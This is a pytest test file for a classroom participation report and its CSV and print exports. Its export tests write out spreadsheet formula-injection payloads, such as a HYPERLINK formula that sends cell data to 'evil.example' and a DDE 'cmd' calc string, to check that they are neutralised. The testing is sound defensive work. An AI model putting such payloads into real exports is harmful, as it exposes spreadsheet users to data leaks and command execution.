"""The participation report against a class built by hand, its exports (the grading CSV, every
comment, the printable view), the formula guard, bad filters, and query counts that do not grow
with the class."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import insert

from app.classroom.participation import Scope, build_report, load_facts, sort_rows
from app.classroom.spreadsheet import csv_document, neutralize
from app.discussion.page_versions import ALL_PAGES
from app.extensions import db
from app.models import Comment, CommentStatus, Post, Student, StudentCommentLink

from .conftest import recorded_queries

APPROVED, PENDING, SPAM, TRASH = (
    CommentStatus.APPROVED,
    CommentStatus.PENDING,
    CommentStatus.SPAM,
    CommentStatus.TRASH,
)
DUE = datetime(2026, 3, 5, 17, 0, tzinfo=UTC)
NOW = datetime(2026, 4, 1, 12, 0, tzinfo=UTC)
HOUR = timedelta(hours=1)


@pytest.fixture
def clock(monkeypatch):
    monkeypatch.setattr("app.roster.views.utcnow", lambda: NOW)


@pytest.fixture
def hand_built_class(app, make_post, make_student, make_comment, instructor):
    """Five students (one silent, one writing under another email) and a guest, on a post due
    March 5 at 17:00 and a second post with no due date."""
    p1 = make_post(slug="speech", title="The Secret Speech", due_at=DUE)
    p2 = make_post(slug="thaw", title="The Thaw")
    ids = {
        name: make_student(name, f"{name.lower()}@example.com", section)
        for name, section in (("Ada", "A"), ("Ben", "A"), ("Cy", "B"), ("Dee", "B"))
    }
    ids["Eve"] = make_student("Eve", "eve@school.edu", "B")

    def comment(post, who, email, when, status=APPROVED, parent=None, body="A reply.", **extra):
        return make_comment(
            post, status=status, author_name=who, author_email=email, created_at=when,
            parent_id=parent, body=body, **extra,
        )  # fmt: skip

    c = {}
    c[1] = comment(p1, "Ada", "ada@example.com", DUE - 2 * HOUR, body="one two three four")
    c[2] = comment(p1, "Ben", "Ben@Example.com ", DUE - HOUR, parent=c[1], body="I agree with you")
    c[3] = comment(p1, "Cy", "cy@example.com", DUE + HOUR, parent=c[2], body="a late reply")
    c[4] = comment(p1, "Ada", "ada@example.com", DUE + 2 * HOUR, PENDING, c[3], body="thanks Cy")
    c[5] = comment(p1, "Ben", "ben@example.com", DUE - HOUR / 2, TRASH, body="oops wrong post")
    c[6] = comment(p1, "Gus", "gus@example.net", DUE - HOUR * 0.8, parent=c[1], body="guest words")
    c[7] = comment(p1, "Eve O.", "EVE.Other@Gmail.com", DUE - 3 * HOUR, body="from home")
    c[8] = comment(
        p1, "Professor Lee", "prof@example.edu", DUE + 3 * HOUR, parent=c[3], body="Good.",
        instructor_id=instructor,
    )  # fmt: skip
    c[9] = comment(p1, "Ada", "ada@example.com", DUE + 4 * HOUR, SPAM, body="buy now")
    c[10] = comment(
        p1, "Ada", "ada@example.com", DUE - 1.5 * HOUR, parent=c[1], body="adding one more thought"
    )
    c[11] = comment(p2, "Cy", "cy@example.com", datetime(2026, 3, 10, 9, tzinfo=UTC), body="x y")
    with app.app_context():
        db.session.add(StudentCommentLink(comment_id=c[7], student_id=ids["Eve"]))
        db.session.commit()
    return {"posts": (p1, p2), "students": ids, "comments": c}


def report_for(app, scope):
    with app.app_context():
        return build_report(load_facts(scope), scope, now=NOW, zone=UTC)


def numbers(row):
    return {
        key: getattr(row, key)
        for key in (
            "submitted", "approved", "pending", "discarded", "top_level",
            "replies_to_classmates", "replies_received", "words", "on_time", "late", "missing",
        )
    }  # fmt: skip


def test_the_reports_numbers_for_one_post(app, hand_built_class):
    p1, _ = hand_built_class["posts"]
    report = report_for(app, Scope(post_id=p1))
    rows = {row.name: row for row in report.rows}
    assert list(rows) == ["Ada", "Ben", "Cy", "Dee", "Eve"]
    assert numbers(rows["Ada"]) == {
        "submitted": 4, "approved": 2, "pending": 1, "discarded": 1, "top_level": 1,
        # Her reply to Cy counts; her reply to herself does not.
        "replies_to_classmates": 1, "replies_received": 2, "words": 4 + 4,
        "on_time": 1, "late": 0, "missing": 0,
    }  # fmt: skip
    assert (rows["Ada"].first, rows["Ada"].last) == (DUE - 2 * HOUR, DUE + 2 * HOUR)
    assert numbers(rows["Ben"]) == {
        "submitted": 2, "approved": 1, "pending": 0, "discarded": 1, "top_level": 0,
        "replies_to_classmates": 1, "replies_received": 1, "words": 4,
        "on_time": 1, "late": 0, "missing": 0,
    }  # fmt: skip
    # A late reply to a classmate; replies received include the instructor's.
    assert numbers(rows["Cy"]) == {
        "submitted": 1, "approved": 1, "pending": 0, "discarded": 0, "top_level": 0,
        "replies_to_classmates": 1, "replies_received": 2, "words": 3,
        "on_time": 0, "late": 1, "missing": 0,
    }  # fmt: skip
    # The student with no comment is in the report, missing.
    assert numbers(rows["Dee"]) == {**dict.fromkeys(numbers(rows["Dee"]), 0), "missing": 1}
    assert not rows["Dee"].has_participated and rows["Dee"].first is None
    # Linked by hand: written under another email.
    assert (rows["Eve"].submitted, rows["Eve"].top_level, rows["Eve"].on_time) == (1, 1, 1)
    # The guest is listed below, never missing; the instructor is nobody's row.
    assert [(g.name, g.email) for g in report.guests] == [("Gus", "gus@example.net")]
    assert numbers(report.guests[0]) == {
        "submitted": 1, "approved": 1, "pending": 0, "discarded": 0, "top_level": 0,
        "replies_to_classmates": 0, "replies_received": 0, "words": 2,
        "on_time": 1, "late": 0, "missing": 0,
    }  # fmt: skip
    assert [row.name for row in report.not_participated] == ["Dee"]
    assert [row.name for row in report.with_late] == ["Cy"]


def test_all_posts_a_section_and_a_date_range(app, hand_built_class):
    everything = {row.name: row for row in report_for(app, Scope()).rows}
    assert (everything["Cy"].submitted, everything["Cy"].top_level) == (2, 1)
    assert (everything["Cy"].late, everything["Dee"].missing) == (1, 1)  # only one post is due

    section_b = report_for(app, Scope(section="B"))
    assert [row.name for row in section_b.rows] == ["Cy", "Dee", "Eve"]
    assert section_b.guests == []

    # From March 6: the March 5 post is neither counted nor missing.
    later = report_for(app, Scope(start=datetime(2026, 3, 6, tzinfo=UTC)))
    rows = {row.name: row for row in later.rows}
    assert rows["Cy"].submitted == 1 and rows["Ada"].submitted == 0
    assert all(row.missing == 0 for row in later.rows)


def test_sorting_by_any_column_keeps_empty_values_last(app, hand_built_class):
    p1, _ = hand_built_class["posts"]
    rows = report_for(app, Scope(post_id=p1)).rows
    assert [r.name for r in sort_rows(rows, "words", True)] == ["Ada", "Ben", "Cy", "Eve", "Dee"]
    assert [r.name for r in sort_rows(rows, "first", False)] == ["Eve", "Ada", "Ben", "Cy", "Dee"]
    assert [r.name for r in sort_rows(rows, "first", True)] == ["Cy", "Ben", "Ada", "Eve", "Dee"]
    assert [r.name for r in sort_rows(rows, "section", False)][:2] == ["Ada", "Ben"]
    assert sort_rows(rows, "no-such-column", False)[0].name == "Ada"


# The screen


def test_the_participation_screen_shows_every_student_and_who_has_not_participated(
    app, moderator, hand_built_class, clock
):
    p1, _ = hand_built_class["posts"]
    html = moderator.get(f"/class/participation?post={p1}").text
    assert "Participation on “The Secret Speech”" in html
    assert "No participation yet:</strong> Dee." in html
    table = html[html.index('<table class="data-table report-table">') :]
    names = re.findall(r'<th scope="row">\s*<a href="[^"]*">([^<]+)</a>', table)
    assert names == ["Ada", "Ben", "Cy", "Dee", "Eve"]
    assert "Guests (not on the roster)" in html and "gus@example.net" in html
    assert '<svg viewBox="0 0 600 160"' in html and 'role="img"' in html
    # The instructor's own comments are nobody's participation (the login message above names them).
    assert "Professor Lee" not in html[html.index("<h1>") :]


def test_sorting_links_and_aria_sort(moderator, hand_built_class, clock):
    html = moderator.get("/class/participation?sort=words&dir=desc").text
    assert 'aria-sort="descending"' in html
    assert "sort=words&amp;dir=asc" in html  # choosing it again reverses
    table = html[html.index("report-table") :]
    names = re.findall(r'<th scope="row">\s*<a href="[^"]*">([^<]+)</a>', table)
    assert names[0] == "Ada" and names[-1] == "Dee"


@pytest.mark.parametrize(
    "query",
    [
        "post=abc&section=Nope&start=yesterday&end=2026-13-40&sort=evil&dir=sideways",
        "post=99999",
        "start=2026-03-10&end=2026-03-01",
        "start=9999-12-31",
        "start=0001-01-01&end=0001-01-01",
        "start=9999-12-30&end=9999-12-31",
        "start=1899-12-31&end=2201-01-01",
        "student=abc",
    ],
)
@pytest.mark.app_config(SITE_TIMEZONE="Asia/Tokyo")
def test_bad_filters_are_ignored_with_a_reason_never_a_500(moderator, hand_built_class, query):
    for url in ("/class/participation", "/class/participation.csv", "/class/print"):
        response = moderator.get(f"{url}?{query}")
        assert response.status_code == 200, (url, query)


def test_a_date_range_the_wrong_way_round_says_so(moderator, hand_built_class):
    html = moderator.get("/class/participation?start=2026-03-10&end=2026-03-01").text
    assert "The end date is before the start date; the dates were ignored." in html


# The grading CSV and the CSV of every comment


def read_csv(response):
    assert response.data.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8 accents right
    text = response.data.decode("utf-8-sig")
    assert "\r\n" in text
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_grading_csv_has_one_row_per_student_with_the_reports_columns(
    moderator, hand_built_class, clock
):
    p1, _ = hand_built_class["posts"]
    response = moderator.get(f"/class/participation.csv?post={p1}")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="participation-speech-2026-04-01.csv"'
    )
    assert response.headers["Cache-Control"] == "private, no-store"
    header, *rows = read_csv(response)
    assert header == [
        "Student", "Email", "Section", "Submitted", "Approved", "Pending", "Returned",
        "Spam / trash",
        "Top-level", "Replies to classmates", "Replies received", "Words",
        "First comment (UTC)", "Last comment (UTC)", "On time", "Late", "Missing",
    ]  # fmt: skip
    assert [row[0] for row in rows] == ["Ada", "Ben", "Cy", "Dee", "Eve"]  # no guest
    assert rows[0] == [
        "Ada", "ada@example.com", "A", "4", "2", "1", "0", "1", "1", "1", "2", "8",
        "2026-03-05 15:00:00", "2026-03-05 19:00:00", "1", "0", "0",
    ]  # fmt: skip
    assert rows[3] == ["Dee", "dee@example.com", "B", *"000000000", "", "", "0", "0", "1"]


def test_the_csv_of_every_comment(moderator, hand_built_class, clock):
    p1, _ = hand_built_class["posts"]
    c = hand_built_class["comments"]
    header, *rows = read_csv(moderator.get(f"/class/participation/comments.csv?post={p1}"))
    assert header == [
        "Student", "Author", "Email", "Section", "Post", "Comment ID", "Parent ID", "Status",
        "Submitted (UTC)", "Approved (UTC)", "Late", "Words", "Text",
    ]  # fmt: skip
    by_id = {int(row[5]): row for row in rows}
    assert len(rows) == 10  # every status, guests and the instructor included
    assert by_id[c[3]] == [
        "Cy", "Cy", "cy@example.com", "B", "The Secret Speech", str(c[3]), str(c[2]),
        "approved", "2026-03-05 18:00:00", "", "yes", "3", "a late reply",
    ]  # fmt: skip
    assert by_id[c[7]][:4] == ["Eve", "Eve O.", "EVE.Other@Gmail.com", "B"]  # linked by hand
    assert by_id[c[6]][0] == "" and by_id[c[9]][7] == "spam"
    assert by_id[c[8]][10] == ""  # the instructor is never late


def test_the_approved_time_comes_from_the_history(app, moderator, make_post, make_comment):
    post_id = make_post(slug="p", title="P")
    comment_id = make_comment(post_id, status=PENDING, created_at=DUE)
    from .conftest import form_post

    form_post(moderator, f"/moderation/comments/{comment_id}/approve", {"next": "/"})
    _, row = read_csv(moderator.get("/class/participation/comments.csv"))
    assert row[8] == "2026-03-05 17:00:00"  # submitted
    assert row[9] >= "2026-"  # approved: now, from the history


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example/?"&A1,"Click")', "'=HYPERLINK("),
        ("+1-555-0100", "'+1"),
        ("-2+3", "'-2"),
        ("@SUM(A1:A9)", "'@SUM"),
        ("\t=1+1", "'\t=1"),
        ("\r=1+1", "'\r=1"),
        ("  =1+1", "'  =1+1"),
        ("A plain answer = fine", "A plain answer = fine"),
        ("", ""),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_neutralised(cell, safe):
    assert str(neutralize(cell)).startswith(safe)
    assert neutralize(42) == 42 and neutralize(None) is None


def test_student_text_never_executes_in_the_exports(
    app, moderator, make_post, make_student, make_comment
):
    post_id = make_post(slug="p", title="=cmd|' /C calc'!A0")
    make_student('=HYPERLINK("http://evil.example","x")', "eve@example.com", "@risk")
    make_comment(post_id, author_email="eve@example.com", author_name="-1+1", body="+SUM(1,2)")
    grades = read_csv(moderator.get("/class/participation.csv"))
    comments = read_csv(moderator.get("/class/participation/comments.csv"))
    cells = [cell for row in grades[1:] + comments[1:] for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    assert '\'=HYPERLINK("http://evil.example","x")' in cells and "'+SUM(1,2)" in cells


def test_csv_document_writes_numbers_as_numbers():
    data = csv_document(["Name", "Words"], [["Zoë", 12], ["-neg", -3]])
    assert data == "\ufeffName,Words\r\nZoë,12\r\n'-neg,-3\r\n".encode()


# The printable view


def test_the_printable_view_for_one_student(moderator, hand_built_class, clock):
    p1, _ = hand_built_class["posts"]
    ada = hand_built_class["students"]["Ada"]
    html = moderator.get(f"/class/print?post={p1}&student={ada}").text
    assert "“The Secret Speech”: Ada" in html
    assert html.count('class="print-comment"') == 3  # not the spam
    assert "In reply to Cy" in html and "a late reply" in html  # the comment it answers
    assert "thanks Cy" in html and "awaiting moderation" in html and "badge-late" in html
    assert "buy now" not in html
    assert 'href="/static/roster.css"' in html and 'src="/static/print.js"' in html


def test_the_printable_view_for_all_students(moderator, hand_built_class, clock):
    p1, _ = hand_built_class["posts"]
    html = moderator.get(f"/class/print?post={p1}").text
    headings = re.findall(r'<h2 id="student-\d+">(\w+)', html)
    assert headings == ["Ada", "Ben", "Cy", "Dee", "Eve"]
    assert "No comments on this post." in html  # Dee
    assert "guest words" not in html.split("In reply to")[0]  # guests are not printed


def test_a_student_not_on_the_roster_has_no_printable_view(moderator, hand_built_class):
    assert moderator.get("/class/print?student=99999").status_code == 404


def test_the_print_stylesheet_hides_the_screen_and_breaks_pages_between_students():
    from pathlib import Path

    css = (Path(__file__).parent.parent / "app" / "static" / "roster.css").read_text()
    print_rules = css[css.index("@media print") :]
    assert ".admin-bar" in print_rules and "display: none" in print_rules
    assert ".print-student { break-before: page;" in print_rules


# Query counts: fixed, whatever the size of the class


def build_class(app, students: int, posts: int = 4, comments_each: int = 3) -> int:
    """A class of ``students`` with a few comments each (some replies), in bulk."""
    with app.app_context():
        db.session.execute(
            insert(Post).execution_options(changes_pages=ALL_PAGES),  # new posts: no page yet
            [
                {"title": f"Post {n}", "slug": f"post-{n}", "author_name": "T", "body": "B",
                 "published_at": DUE - timedelta(days=10), "due_at": DUE + timedelta(days=n)}
                for n in range(posts)
            ],
        )  # fmt: skip
        post_ids = list(db.session.scalars(db.select(Post.id)))
        db.session.execute(
            insert(Student),
            [
                {"name": f"Student {n:03}", "email": f"s{n}@example.com", "section": "AB"[n % 2]}
                for n in range(students)
            ],
        )
        rows = []
        first_id = 1
        for n in range(students):
            for k in range(comments_each):
                number = first_id + len(rows)
                rows.append(
                    {
                        "id": number,
                        "post_id": post_ids[(n + k) % posts],
                        "parent_id": number - comments_each if k == 1 and n else None,
                        "author_name": f"Student {n:03}",
                        "author_email": f"s{n}@example.com",
                        "body": "Some words here. " * 5,
                        "status": [APPROVED, PENDING, TRASH][k % 3],
                        "created_at": DUE - timedelta(hours=n % 48 - k),
                    }
                )
        db.session.execute(insert(Comment).execution_options(changes_pages=post_ids), rows)
        db.session.commit()
        return post_ids[0]


@pytest.mark.parametrize(
    "url",
    [
        "/class/participation",
        "/class/participation?post={post}&section=A",
        "/class/participation.csv",
        "/class/participation/comments.csv?post={post}",
        "/class/print?post={post}",
        "/class",
    ],
)
def test_query_counts_are_the_same_for_5_and_200_students(app, make_post, instructor, url):
    from .conftest import AuthActions

    client = app.test_client()
    AuthActions(client).login()
    post_id = build_class(app, 5)
    small = len(recorded_queries(app, client, url.format(post=post_id)))
    with app.app_context():
        db.session.execute(db.delete(Comment).execution_options(changes_pages=ALL_PAGES))
        db.session.execute(db.delete(Student))
        db.session.commit()
    # Same posts, now 200 students and 600 comments.
    with app.app_context():
        db.session.execute(db.delete(Post).execution_options(changes_pages=ALL_PAGES))
        db.session.commit()
    post_id = build_class(app, 200)
    large = len(recorded_queries(app, client, url.format(post=post_id)))
    assert small == large, (small, large)
    assert large <= 10


def test_the_chart_spans_one_posts_window_not_every_comment_ever(app, make_post, make_comment):
    post_id = make_post(
        slug="p", opens_at=DUE - 3 * 24 * HOUR, due_at=DUE, closes_at=DUE + 2 * 24 * HOUR
    )
    make_comment(post_id, created_at=datetime(2016, 3, 2, tzinfo=UTC))  # years before
    make_comment(post_id, created_at=DUE - HOUR)
    make_comment(post_id, created_at=DUE + HOUR)
    report = report_for(app, Scope(post_id=post_id))
    assert (report.bins.start.isoformat(), report.bins.days, report.bins.width) == (
        "2026-03-02",
        6,
        1,
    )
    assert report.per_bin == [0, 0, 0, 2, 0, 0]  # both on March 5


def test_sparklines_add_up_neighbouring_days_to_stay_small():
    from app.classroom.charts import sparkline

    assert sparkline([0, 0]) == "" and sparkline([3]) == ""
    assert sparkline([0, 2, 1]) == "0.0,17.0 48.0,1.0 96.0,9.0"
    long = sparkline([1] * 70 + [5] * 20)
    assert len(long.split()) == 30  # 90 days, three to a point
    assert long.split()[-1] == "96.0,1.0"
